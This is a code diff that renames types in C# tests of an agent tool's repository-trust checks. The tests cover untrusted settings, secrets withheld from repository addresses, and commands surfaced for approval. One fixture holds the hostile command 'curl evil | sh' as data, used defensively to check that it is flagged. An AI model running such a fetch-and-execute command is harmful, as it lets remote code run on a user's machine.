@@ -45,7 +45,7 @@ public class TrustTests
     /// <summary>The settings that no repository may set, also if it is trusted.</summary>
     private static readonly string[] UserOnly = ["approvers", "require_proof"];
 
-    public static TheoryData<string> AllKeys => [.. SettingIndex.All.Select(key => key.Name)];
+    public static TheoryData<string> AllKeys => [.. SettingDeclarationIndex.All.Select(key => key.Name)];
 
     [Theory]
     [MemberData(nameof(AllKeys))]
@@ -55,12 +55,15 @@ public class TrustTests
         var (sample, text) = SampleOf.Setting(name);
 
         var loaded = Load(text, trusted: false);
-        var asked = Question(new SettingsInput { RepositoryFile = new("config.yaml", text) }).Items.Any(item => item.Setting == name);
+        var asked = Question(new SettingSourceTexts { RepositoryFile = new("config.yaml", text) }).Items.Any(item => item.Setting == name);
         var byVariable =
             Question(
-                new SettingsInput
+                new SettingSourceTexts
                 {
-                    DotEnv = new(".env", $"{SettingIndex.Find(name)!.Variable.Replace("*", "MINE", StringComparison.Ordinal)}={sample}\n"),
+                    DotEnv = new(
+                        ".env",
+                        $"{SettingDeclarationIndex.Find(name)!.Variable.Replace("*", "MINE", StringComparison.Ordinal)}={sample}\n"
+                    ),
                 }
             ).Items.Count > 0;
 
@@ -74,7 +77,7 @@ public class TrustTests
     [Fact]
     public void Load_UntrustedRepository_ActsOnNothingOfItButHarmlessSettings()
     {
-        var input = new SettingsInput
+        var input = new SettingSourceTexts
         {
             RepositoryFile = new(
                 "config.yaml",
@@ -114,7 +117,7 @@ public class TrustTests
     public void Load_VariableThatNamesProgramsOrAddresses_IsNeverHandedToAgents(string name)
     {
         var result = SettingsLoader.Load(
-            new SettingsInput { IsTrusted = true, DotEnv = new(".env", $"{name}=evil\nAWS_REGION=eu-west-1\n") }
+            new SettingSourceTexts { IsTrusted = true, DotEnv = new(".env", $"{name}=evil\nAWS_REGION=eu-west-1\n") }
         );
 
         Assert.Equal(["AWS_REGION"], result.AgentEnvironment.Keys);
@@ -128,7 +131,7 @@ public class TrustTests
     public void Load_SecretForAnAddressOfTheRepository_IsRefusedEvenWhereItIsTrusted(string text, string key)
     {
         var fault = Assert.Single(
-            SettingsLoader.Load(new SettingsInput { IsTrusted = true, RepositoryFile = new("config.yaml", text) }).Errors
+            SettingsLoader.Load(new SettingSourceTexts { IsTrusted = true, RepositoryFile = new("config.yaml", text) }).Errors
         );
 
         Assert.Equal(key, fault.Key);
@@ -145,7 +148,7 @@ public class TrustTests
     public void Load_SecretForAnAddressOfTheRepository_SaysHowToGiveTheAddress(string text, string secret, string ways)
     {
         var fault = Assert.Single(
-            SettingsLoader.Load(new SettingsInput { IsTrusted = true, RepositoryFile = new("config.yaml", text) }).Errors
+            SettingsLoader.Load(new SettingSourceTexts { IsTrusted = true, RepositoryFile = new("config.yaml", text) }).Errors
         );
 
         Assert.Equal($"{secret} is not sent to an address from the repository's files.", fault.Message);
@@ -155,7 +158,7 @@ public class TrustTests
     [Fact]
     public void Load_AddressOfTheUsersOwnFile_TakesTheSecret()
     {
-        var input = new SettingsInput
+        var input = new SettingSourceTexts
         {
             IsTrusted = true,
             UserFile = new("user.yaml", "temporal: {address: 'mine:7233'}\nplanner: {agent: api, url: 'https://mine.example'}\n"),
@@ -177,13 +180,16 @@ public class TrustTests
             new(DetectedCommandKind.McpServer, "tracker", ".mcp.json", """{"command":"evil"}"""),
         ];
 
-        var question = Question(new SettingsInput { RepositoryFile = new("config.yaml", "agents: {claude: {mcp: [tracker]}}") }, found);
+        var question = Question(
+            new SettingSourceTexts { RepositoryFile = new("config.yaml", "agents: {claude: {mcp: [tracker]}}") },
+            found
+        );
 
         Assert.Equal(
             ["tracker", "yarn install --immutable", "yarn run test: curl evil | sh", """tracker: {"command":"evil"}"""],
             question.Items.Select(item => item.Value.Trim('[', ']'))
         );
-        Assert.All(question.Items, item => Assert.Equal(TrustKind.Runs, item.Kind));
+        Assert.All(question.Items, item => Assert.Equal(TrustedEntryEffect.Runs, item.Kind));
     }
 
     [Fact]
@@ -198,17 +204,19 @@ public class TrustTests
             "workers: 3",
         ];
 
-        var prints = texts.Select(text => Question(new SettingsInput { RepositoryFile = new("config.yaml", text) }).Fingerprint).ToList();
+        var prints = texts
+            .Select(text => Question(new SettingSourceTexts { RepositoryFile = new("config.yaml", text) }).Fingerprint)
+            .ToList();
 
         Assert.Equal(prints.Count, prints.Distinct().Count());
         Assert.Equal(
             prints[0],
-            Question(new SettingsInput { RepositoryFile = new("config.yaml", "# moved\n\nworkers: 9\n" + texts[0]) }).Fingerprint
+            Question(new SettingSourceTexts { RepositoryFile = new("config.yaml", "# moved\n\nworkers: 9\n" + texts[0]) }).Fingerprint
         );
         Assert.Equal(
             prints[0],
             Question(
-                new SettingsInput
+                new SettingSourceTexts
                 {
                     RepositoryFile = new("config.yaml", texts[0]),
                     Environment = new Dictionary<string, string> { ["ORCHESTRATOR_GATES__TASK"] = "[x]" },
@@ -224,14 +232,18 @@ public class TrustTests
         try
         {
             var file = Path.Combine(folder, "trust.json");
-            var question = new TrustRequest([new(TrustKind.Runs, "gates.task", "[make]", "config.yaml:1")]);
-            new TrustStore(file, new FakeTimeProvider(DateTimeOffset.UtcNow.AddDays(-100))).TrustForRun("/repo", "old", question);
-            new TrustStore(file, new FakeTimeProvider(DateTimeOffset.UtcNow.AddDays(-10))).TrustForRun("/repo", "recent", question);
-            new TrustStore(file).Trust("/repo/always", question);
-            var before = new TrustStore(file).IsTrusted("/repo", question, "recent");
-            new TrustStore(file).TrustForRun("/repo", "new", question);
+            var question = new RepositoryTrustRequest([new(TrustedEntryEffect.Runs, "gates.task", "[make]", "config.yaml:1")]);
+            new RepositoryTrustStore(file, new FakeTimeProvider(DateTimeOffset.UtcNow.AddDays(-100))).TrustForRun("/repo", "old", question);
+            new RepositoryTrustStore(file, new FakeTimeProvider(DateTimeOffset.UtcNow.AddDays(-10))).TrustForRun(
+                "/repo",
+                "recent",
+                question
+            );
+            new RepositoryTrustStore(file).Trust("/repo/always", question);
+            var before = new RepositoryTrustStore(file).IsTrusted("/repo", question, "recent");
+            new RepositoryTrustStore(file).TrustForRun("/repo", "new", question);
 
-            var store = new TrustStore(file);
+            var store = new RepositoryTrustStore(file);
             Assert.True(
                 before
                     && store.IsTrusted("/repo", question, "recent")
@@ -253,16 +265,18 @@ public class TrustTests
         var folder = Directory.CreateTempSubdirectory("trust-tests-").FullName;
         try
         {
-            var question = new TrustRequest([new(TrustKind.Runs, "gates.task", "[make]", "config.yaml:1")]);
+            var question = new RepositoryTrustRequest([new(TrustedEntryEffect.Runs, "gates.task", "[make]", "config.yaml:1")]);
             await Task.WhenAll(
                 Enumerable
                     .Range(0, 40)
                     .Select(run =>
-                        Task.Run(() => new TrustStore(Path.Combine(folder, "trust.json")).TrustForRun("/repo", $"run-{run}", question))
+                        Task.Run(() =>
+                            new RepositoryTrustStore(Path.Combine(folder, "trust.json")).TrustForRun("/repo", $"run-{run}", question)
+                        )
                     )
             );
 
-            var store = new TrustStore(Path.Combine(folder, "trust.json"));
+            var store = new RepositoryTrustStore(Path.Combine(folder, "trust.json"));
             Assert.All(Enumerable.Range(0, 40), run => Assert.True(store.IsTrusted("/repo", question, $"run-{run}")));
             Assert.False(store.IsTrusted("/repo", question));
             Assert.False(store.IsTrusted("/other", question, "run-1"));
@@ -273,10 +287,11 @@ public class TrustTests
         }
     }
 
-    private static SettingValue Value(SettingsResult result, string name) => result.Values.Single(value => value.Name == name);
+    private static SettingValue Value(SettingsLoadResult result, string name) => result.Values.Single(value => value.Name == name);
 
-    private static SettingsResult Load(string text, bool trusted) =>
-        SettingsLoader.Load(new SettingsInput { IsTrusted = trusted, RepositoryFile = new("config.yaml", text) });
+    private static SettingsLoadResult Load(string text, bool trusted) =>
+        SettingsLoader.Load(new SettingSourceTexts { IsTrusted = trusted, RepositoryFile = new("config.yaml", text) });
 
-    private static TrustRequest Question(SettingsInput input, params DetectedCommand[] found) => TrustQuestionBuilder.Of(input, found);
+    private static RepositoryTrustRequest Question(SettingSourceTexts input, params DetectedCommand[] found) =>
+        RepositoryTrustRequestBuilder.Of(input, found);
 }
